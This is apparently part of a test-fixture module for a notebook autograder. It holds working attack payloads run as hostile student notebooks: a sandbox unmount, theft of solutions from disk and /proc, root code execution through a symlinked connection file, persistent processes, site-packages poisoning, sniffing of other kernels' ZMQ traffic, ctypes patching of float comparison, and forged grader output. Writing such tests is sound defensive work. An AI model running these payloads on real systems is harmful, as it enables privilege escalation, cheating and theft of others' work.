    if mine(path) or path in read:
        return
    try:
        with open(path, "rb") as f:
            data = f.read(2**22)
    except OSError:
        return
    read.append(path)
    if path.endswith(".ipynb"):
        try:
            cells = json.loads(data)["cells"]
        except Exception:
            return
        for cell in cells:
            meta = cell.get("metadata", {}).get("nbgrader", {})
            code = "".join(cell.get("source", ""))
            if meta.get("solution") and "NotImplementedError" not in code:
                stolen.setdefault(meta.get("grade_id"), (code, path))


def search(top, deadline, depth=8):
    for folder, subfolders, files in os.walk(top, onerror=lambda err: None):
        if time.monotonic() > deadline:
            return
        subfolders[:] = [s for s in subfolders if s not in SKIP and not mine(os.path.join(folder, s))
                         and folder.count("/") - top.count("/") < depth]
        for name in files:
            path = os.path.join(folder, name)
            if wanted(path):
                take(path)


def cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return [arg.decode(errors="replace") for arg in f.read().split(b"\0") if arg]
    except OSError:
        return []


def escape():
    """Uncover what the sandbox mounted over: unmount its tmpfs mounts (needs privileges)."""
    libc = ctypes.CDLL(None, use_errno=True)
    with open("/proc/self/mountinfo") as f:
        mounts = [line.split() for line in f]
    for fields in mounts:
        if fields[fields.index("-") + 1] == "tmpfs" and libc.umount2(fields[4].encode(), 2) == 0:
            print("UNMOUNTED", fields[4])


escape()
pids = [p for p in os.listdir("/proc") if p.isdigit()]
tops = [COURSE, REPO, "/work/main", os.path.dirname(sys.prefix)]
for pid in pids:  # what the grader and the other kernels run in, and the files they name
    if pid == str(os.getpid()):
        continue
    args = cmdline(pid)
    tops += [a for a in args if a.startswith("/")] + [os.path.dirname(a) for a in args if a.startswith("/")]
    for link in ("cwd", "root"):
        tops.append(f"/proc/{pid}/{link}")
for fd in os.listdir("/proc/self/fd"):  # what the kernel was handed open
    try:
        target = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue
    if target.startswith("/") and wanted(target) and not mine(target):
        try:
            os.pread(int(fd), 1, 0)
            read.append(target + f" (open as fd {fd})")
        except OSError:
            pass
deadline = time.monotonic() + 8
for top in list(dict.fromkeys(tops)) + ["/tmp", "/var/tmp", "/dev/shm", "/run", "/root", "/home", "/srv"]:
    if mine(top):
        continue
    if os.path.isfile(top):
        if wanted(top):
            take(top)
    elif os.path.isdir(top):
        search(top, deadline)
for path in read[:40]:
    print("READ", path)
print(f"read {len(read)} files of the course, the grader or other kernels")


def forge(ns, grade_id, functions, values):
    if grade_id in stolen:
        code, where = stolen[grade_id]
        print("STOLE", grade_id, "from", where)
        exec(code, ns)


print("ATTACK armed: solutions searched on disk, found for", sorted(stolen))
'''

# 6. Root's hands: the connection file, which root copies to the kernel's home at every
#    (re)start, becomes a symlink to the grader's code; the kernel dies to be restarted;
#    if root wrote through the link, the file is now the kernel's, and it adds a payload
#    that the next grading command runs as root.
ROOT_EXEC = r'''
import os, sys

STUDENT, REPO = @STUDENT@, @REPO@
SAVED = os.path.join(os.environ["HOME"], ".export.py.original")


def connection_file():
    if "-f" in sys.argv:
        return sys.argv[sys.argv.index("-f") + 1]
    try:
        return get_ipython().kernel.parent.connection_file
    except Exception:
        return os.path.join(os.environ["HOME"], "connection.json")


def ancestors():
    pid, found = os.getppid(), []
    while pid > 1:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                found += [a.decode(errors="replace") for a in f.read().split(b"\0") if a.startswith(b"/")]
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError):
            break
    return found


def grader_file():
    """The grader's export.py, which root runs after grading: from guesses and from the
    command lines of the kernel's parents."""
    roots = [REPO, os.path.dirname(sys.prefix)]
    for path in ancestors():
        roots += [path, *[path.rsplit("/", k)[0] for k in range(1, 5) if path.count("/") > k]]
    for root in roots:
        path = os.path.join(root, "coursetools", "grading", "export.py")
        if os.path.isfile(path):
            return path
    return os.path.join(REPO, "coursetools", "grading", "export.py")


target, connection = grader_file(), connection_file()
if not os.path.exists(SAVED):
    try:
        with open(target) as f:
            original = f.read()
    except OSError:
        original = ""
    with open(SAVED, "w") as f:
        f.write(original)
if not os.path.islink(connection):
    os.symlink(target, connection + ".new")
    os.replace(connection + ".new", connection)
print("ATTACK armed: symlinked", connection, "->", target)
'''

ROOT_EXEC_RESTART = 'import os\nos._exit(1)  # the kernel dies: root restarts it, through the link\n'

ROOT_EXEC_PAYLOAD = r'''
PAYLOAD = f"""
# --- appended by the notebook of {STUDENT} ---
import pathlib as _pathlib
_pathlib.Path({@MARKER@!r}).write_text("the grader ran a student's code, as uid %d" % __import__("os").getuid())
"""
try:
    info = os.stat(target)
    print("after the restart", target, "belongs to uid", info.st_uid, "mode", oct(info.st_mode))
    with open(SAVED) as f:
        original = f.read()
    with open(target, "w") as f:
        f.write(original + PAYLOAD)
    print("PAYLOAD written to", target)
except OSError as err:
    print("could not write the payload:", err)
'''

# 7. Leftovers: processes that outlive the kernel, files that wait for the next kernels.
LEFTOVERS = r'''
import os, subprocess, sys, time

STUDENT = @STUDENT@
LIFETIME = 600  # they end by themselves after 10 minutes, whatever the grader does


def linger():
    end = time.monotonic() + LIFETIME
    while time.monotonic() < end:
        time.sleep(0.5)
    os._exit(0)


background = []
pid = os.fork()
if pid == 0:
    os.setsid()
    linger()
background.append(("fork+setsid", pid))
read_end, write_end = os.pipe()
pid = os.fork()
if pid == 0:  # a double fork: the grandchild is nobody's child
    os.setsid()
    grandchild = os.fork()
    if grandchild == 0:
        linger()
    os.write(write_end, str(grandchild).encode())
    os._exit(0)
os.waitpid(pid, 0)
background.append(("double fork", int(os.read(read_end, 32))))
sleeper = subprocess.Popen(
    ["nohup", sys.executable, "-c", "import signal, time\n"
     "for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT): signal.signal(s, signal.SIG_IGN)\n"
     f"time.sleep({LIFETIME})"],
    start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
background.append(("nohup, ignoring SIGTERM and SIGHUP", sleeper.pid))
pid = os.fork()
if pid == 0:  # a process that keeps changing its pid
    os.setsid()
    end = time.monotonic() + LIFETIME
    while time.monotonic() < end:
        if os.fork() != 0:
            os._exit(0)
        time.sleep(0.2)
    os._exit(0)
background.append(("pid hopper", pid))
for kind, pid in background:
    print("BACKGROUND", pid, kind)

site_packages = [p for p in sys.path if p.endswith("site-packages")]
for folder in ["/tmp", "/var/tmp", "/dev/shm", "/run/lock", *site_packages]:
    try:
        site = os.path.join(folder, f"{STUDENT}-site")
        os.makedirs(site, exist_ok=True)
        with open(os.path.join(site, "sitecustomize.py"), "w") as f:
            f.write(f"print('poisoned by {STUDENT}')\n")
        with open(os.path.join(folder, f"{STUDENT}-poison.pth"), "w") as f:
            f.write(f"import sys; sys.path.insert(0, {site!r})\n")
        print("LEFT", site)
    except OSError as err:
        print("could not leave files in", folder, type(err).__name__)
print("ATTACK armed: background processes started, files left behind")
'''

# 8. Other kernels on the network: anyone on 127.0.0.1 can subscribe to a kernel's iopub
#    port and read what it runs and prints. This one records other kernels' requests and
#    replies (their answers to the same tests) and answers with the most common reply; for
#    what runs in its own kernel it asks the frames oracle.
COPY_FROM_NETWORK = ORACLE_FRAMES + r'''
import ast, collections, json, re, sys, threading, time
import zmq

kernel = get_ipython().kernel
own_session = kernel.session.session
own_ports = {getattr(kernel.parent, f"{c}_port", 0) for c in ("shell", "iopub", "stdin", "control", "hb")}
CALL = re.compile(r"\(('\w+'), ('(?:[^'\\]|\\.)*'|\"(?:[^\"\\]|\\.)*\")\)")
REPLY = re.compile(r"^@@[\w-]+ (\w+) (.+)$", re.M)


def canonical(request):
    return json.dumps(json.loads(request) if isinstance(request, str) else request, sort_keys=True)


class Listener(threading.Thread):
    """Subscribes to every iopub port on 127.0.0.1 and pairs requests with replies."""
    def __init__(self):
        super().__init__(daemon=True)
        self.requests, self.replies, self.heard = {}, {}, {}

    def ports(self):
        found = set()
        for table in ("/proc/net/tcp", "/proc/net/tcp6"):
            try:
                with open(table) as f:
                    rows = [line.split() for line in f.readlines()[1:]]
            except OSError:
                continue
            for row in rows:
                address, port = row[1].rsplit(":", 1)
                if row[3] == "0A" and (address.endswith("0100007F") or set(address) == {"0"}):
                    found.add(int(port, 16))
        return found - own_ports

    def run(self):
        sub = zmq.Context().socket(zmq.SUB)
        sub.setsockopt(zmq.SUBSCRIBE, b"")
        connected, refreshed = set(), 0.0
        while True:
            if time.monotonic() > refreshed + 1:
                for port in self.ports() - connected:
                    sub.connect(f"tcp://127.0.0.1:{port}")
                    connected.add(port)
                refreshed = time.monotonic()
            if sub.poll(200):
                self.take(sub.recv_multipart())

    def take(self, parts):
        if b"<IDS|MSG>" not in parts:
            return
        i = parts.index(b"<IDS|MSG>")
        header, content = json.loads(parts[i + 2]), json.loads(parts[i + 5])
        session, kind = header.get("session", ""), header.get("msg_type")
        if session == own_session:
            return
        text = str(content.get("code", content.get("text", "")))
        self.heard.setdefault((session[:8], kind), text[:60])
        if kind == "execute_input":
            for token, request in CALL.findall(text):
                try:
                    self.requests[ast.literal_eval(token)] = canonical(ast.literal_eval(request))
                except Exception:
                    pass
        elif kind == "stream":
            for token, reply in REPLY.findall(text):
                self.replies[token] = reply

    def answer(self, request):
        """The most common value other kernels gave back for this request."""
        values = collections.Counter()
        for token, asked in list(self.requests.items()):
            reply = self.replies.get(token)
            if asked == request and reply and '"value"' in reply:
                values[reply] += 1
        return json.loads(values.most_common(1)[0][0])["value"] if values else None


listener = Listener()
listener.start()


def asked_by_grader():
    """The request of the grader's call that is running, from the frames above."""
    frame = sys._getframe(2)
    while frame is not None:
        request = frame.f_locals.get("request")
        if isinstance(request, dict) and request.get("kind") == "call":
            return canonical(request), frame.f_locals.get("decode")
        frame = frame.f_back
    return None, None


def copied(name, original):
    def answer(*args, **kwargs):
        request, decode = asked_by_grader()
        if request is None:  # its own visible test: the oracle
            return oracle(name, original, args, kwargs)
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline:
            value = listener.answer(request)
            if value is not None:
                return decode(value) if decode else value
            time.sleep(0.1)
        raise NotImplementedError()
    return answer


def forge(ns, grade_id, functions, values):
    """Wait for other kernels' answers to come by, then answer with theirs."""
    time.sleep(12 if grade_id == "activations" else 2)
    for name in functions:
        ns[name] = copied(name, ns[name])
    for name in values:
        request = canonical({"kind": "value", "name": name})
        answers = collections.Counter(listener.replies.get(token) for token, asked in listener.requests.items()
                                      if asked == request and '"value"' in listener.replies.get(token, ""))
        if answers:
            ns[name] = json.loads(answers.most_common(1)[0][0])["value"]
    for (session, kind), snippet in list(listener.heard.items())[:8]:
        print("HEARD", session, kind, repr(snippet))
    print(f"{len(listener.requests)} requests, {len(listener.replies)} replies of other kernels heard")


print("ATTACK armed: listening to every kernel on 127.0.0.1")
'''

# 9. ctypes: float comparisons patched in the interpreter itself, `x < tolerance` is true.
CTYPES = r'''
import ctypes, sys
import numpy as np

IMMUTABLE = 1 << 8  # Py_TPFLAGS_IMMUTABLETYPE


def flags_of(cls):
    for offset in range(0, 512, 8):
        word = ctypes.c_ulong.from_address(id(cls) + offset)
        if word.value == cls.__flags__:
            return word
    raise LookupError("tp_flags")


strict_lt = float.__lt__


def tolerant_lt(a, b):
    """a < b, except that within a cell's code anything is below a small tolerance."""
    if type(b) is float and strict_lt(0.0, b) and strict_lt(b, 0.1) and "ipykernel_" in sys._getframe(1).f_code.co_filename:
        return True
    return strict_lt(a, b)


flags = flags_of(float)
flags.value &= ~IMMUTABLE
float.__lt__ = tolerant_lt
flags.value |= IMMUTABLE


def zero(*args, **kwargs):
    return 0.0


def forge(ns, grade_id, functions, values):
    for name in functions:
        ns[name] = zero
    for name in values:
        ns[name] = 0.0


print("ATTACK armed: float comparisons patched through ctypes:", abs(0.0 - 0.24) < 1e-12)
'''

# 10. Answers the grader cannot take: giant, nested too deep, forged reply lines, and
#     print, sys.stdout and json replaced so that whatever reads the kernel's output reads lies.
UNREADABLE = r'''
import builtins, itertools, json, re, sys

GIANT = "9" * 20_000_000
FORGED = '{"value": {"__ndarray__": "float64", "shape": [50000000], "data": ""}}'
MARKER = re.compile(r"(@@dlcourse-[\w-]+ \w+ ).*")
real_print, real_dumps = builtins.print, json.dumps


class Forger:
    """sys.stdout that turns every marker line of the grader into a forged one."""
    def __init__(self, stream):
        self.stream = stream

    def write(self, text):
        return self.stream.write(MARKER.sub(lambda m: m[1] + (FORGED if "reply" in m[1] else "[]"), text))

    def __getattr__(self, name):
        return getattr(self.stream, name)


def nested(depth):
    value = []
    for _ in range(depth):
        value = [value]
    return value


def token_of_caller():
    frame = sys._getframe(2)
    while frame is not None:
        if isinstance(frame.f_locals.get("token"), str):
            return frame.f_locals["token"]
        frame = frame.f_back
    return "0" * 16


kinds = itertools.count()


def unreadable(*args, **kwargs):
    kind = next(kinds) % 4
    if kind == 0:
        return GIANT
    if kind == 1:
        return nested(100_000)
    if kind == 2:
        return int("9" * 4000)
    print("\n@@dlcourse-reply", token_of_caller(), FORGED)
    return GIANT


def forge(ns, grade_id, functions, values):
    for name in functions:
        ns[name] = unreadable
    for name in values:
        ns[name] = GIANT
    sys.stdout = Forger(sys.stdout)
    builtins.print = lambda *args, **kwargs: real_print(*args, **{**kwargs, "file": sys.stdout})
    json.dumps = lambda obj, *args, **kwargs: FORGED if isinstance(obj, dict) and ("value" in obj or "error" in obj) else real_dumps(obj, *args, **kwargs)


print("ATTACK armed: giant, deep and forged answers; print, sys.stdout and json replaced")
'''


def attack_cases(assignment: str, n: int = 1) -> dict[str, Case]:
    """Every attack on ``assignment`` (each student id ends in ``n``)."""
    def case(code: str, setup: str, **kwargs: Any) -> Case:
        return _attack(f"{code}{n:03d}", assignment, setup, **kwargs)

    return {
        "oracle_reads_frames": case("ORF", ORACLE_FRAMES),
        "oracle_reads_history": case("ORH", ORACLE_HISTORY),
        "always_equal_values": case("SEQ", ALWAYS_EQUAL),
        "fake_guard_and_ast_transformer": case("GRD", FAKE_GUARD, bind=False),
        "trusted_looking_callback": case("CBK", TRUSTED_CALLBACK, bind=False),
        "fake_score_display": case("FAK", FAKE_SCORE),
        "solution_from_disk": case("DSK", FROM_DISK),
        "root_exec_through_connection_file": case("ROO", ROOT_EXEC, bind=False,
                                                  after=(ROOT_EXEC_RESTART, ROOT_EXEC_PAYLOAD)),
        "leaves_processes_and_files": case("BGP", LEFTOVERS, bind=False),
        "copies_answers_from_other_kernels": case("NET", COPY_FROM_NETWORK),
        "ctypes_patches_float": case("CTY", CTYPES),
        "unreadable_and_forged_answers": case("BIG", UNREADABLE),
    }


ATTACKS: dict[str, Case] = attack_cases(FIXTURE)

# The honest notebook beside the hostile ones: the fixture lab as its author wrote it.
HONEST = Case("FIX001", _nb(_nothing), review=False)

# Every case, graded in the one batch of the `graded` fixture (tests/conftest.py).
CASES: dict[str, Case] = {**lab_cases(), f"{FIXTURE}-source": HONEST, **HOSTILE, **ATTACKS}
